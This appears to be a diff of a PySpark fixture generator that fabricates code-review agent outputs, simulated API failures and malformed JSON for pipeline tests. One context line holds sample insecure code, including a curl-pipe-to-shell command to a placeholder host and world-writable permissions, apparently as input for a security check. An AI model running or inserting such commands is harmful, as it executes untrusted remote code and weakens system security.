@@ -37,6 +37,19 @@ ADDED_LINES = [
              "curl https://x.invalid/i | sh\nchmod -R 777 /srv\nverify=False\nFROM python:latest"),
 ]
 
+# Failed calls of the attempts up to a number, by residue class: (attempts, modulus, residue, kind, message).
+# A kind of None is not in the log, and the message must show it.
+FAILED_CALLS = [
+    (2, 17, 3, None, "HTTP 503 Service Unavailable"),
+    (1, 19, 4, "http", "HTTP 401 Unauthorized"),
+    (1, 23, 5, "timeout", ""),
+    (1, 29, 6, None, "ReadTimeout: timed out"),
+    (1, 31, 7, "connection", "Connection reset by peer"),
+    (1, 37, 8, None, "KeyError: choices"),
+    (2, 41, 9, None, "ValueError: empty choices"),
+    (1, 43, 10, None, "HTTP 408 Request Timeout"),
+]
+
 
 def hmac_pads(key: str) -> tuple[str, str]:
     """HMAC-SHA256 inner / outer pads of ``key`` as hex (key hashed first when > 64 bytes)."""
@@ -124,9 +137,9 @@ def deliveries(spark: SparkSession, sf_dir: str, key: str = FIXTURE_KEY) -> Data
 
 
 def agent_outputs(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """F2 ``agent_outputs(pr_id, agent, attempt, provider, latency_s, raw_text, error)``: three
-    attempts per (PR, agent), attempt 3 on the fallback provider; a call that failed has an error
-    and no text."""
+    """F2 ``agent_outputs(pr_id, agent, attempt, provider, latency_s, raw_text, error, error_type)``:
+    three attempts per (PR, agent), attempt 3 on the fallback provider; a call that failed has an error
+    (an empty one, if the exception has no message), no text, and mostly its kind."""
     d = read_table(spark, sf_dir, "documents").select("doc_id")
     doc_id = F.col("doc_id")
     s = lambda c: c.cast("string")
@@ -149,7 +162,8 @@ def agent_outputs(spark: SparkSession, sf_dir: str) -> DataFrame:
     st, fnd = F.col("st"), F.col("fnd")
     body = (F.when(ag == "security", F.concat(
                 F.lit('{"status":"'), st, F.lit('","severity_level":"'),
-                F.when(doc_id % 8 == 0, "high").otherwise("low"), F.lit('","findings_summary":'), fnd, F.lit("}")))
+                F.when(doc_id % 8 == 0, "high").otherwise("low"), F.lit('","findings_summary":'), fnd,
+                F.when(doc_id % 44 == 4, F.lit(',"note":[NaN,"NaN",-Infinity]')).otherwise(F.lit("")), F.lit("}")))
             .when(ag == "architecture", F.concat(
                 F.lit('{"status":"'), st, F.lit('","complexity_score":'), s(doc_id % 10 + 1),
                 F.lit(',"refactor_suggestions":'), fnd, F.lit("}")))
@@ -162,10 +176,13 @@ def agent_outputs(spark: SparkSession, sf_dir: str) -> DataFrame:
     raw = (F.when((att == 1) & (doc_id % 7 == 0), F.lit("not json"))
            .when(doc_id % 91 == 0, F.lit('{"status":'))
            .otherwise(F.concat(F.lit("```json\n"), body, F.lit("\n```"))))
-    error = (F.when((att <= 2) & (doc_id % 17 == 3), F.lit("HTTP 503 Service Unavailable"))
-             .when((att == 1) & (doc_id % 19 == 4), F.lit("HTTP 401 Unauthorized")))
+    error = kind = F.lit(None).cast("string")
+    for most, modulus, residue, name, message in reversed(FAILED_CALLS):
+        hit = (att <= most) & (doc_id % modulus == residue)
+        error = F.when(hit, F.lit(message)).otherwise(error)
+        kind = F.when(hit, F.lit(name)).otherwise(kind)
     raw = F.when(error.isNull(), raw)
     return e.select(
         F.col("pr_id").cast("bigint"), "agent", att.cast("int").alias("attempt"),
         F.when(att == 3, "fallback").otherwise("primary").alias("provider"),
-        (doc_id % 50).cast("double").alias("latency_s"), raw.alias("raw_text"), error.alias("error"))
+        (doc_id % 50).cast("double").alias("latency_s"), raw.alias("raw_text"), error.alias("error"), kind.alias("error_type"))
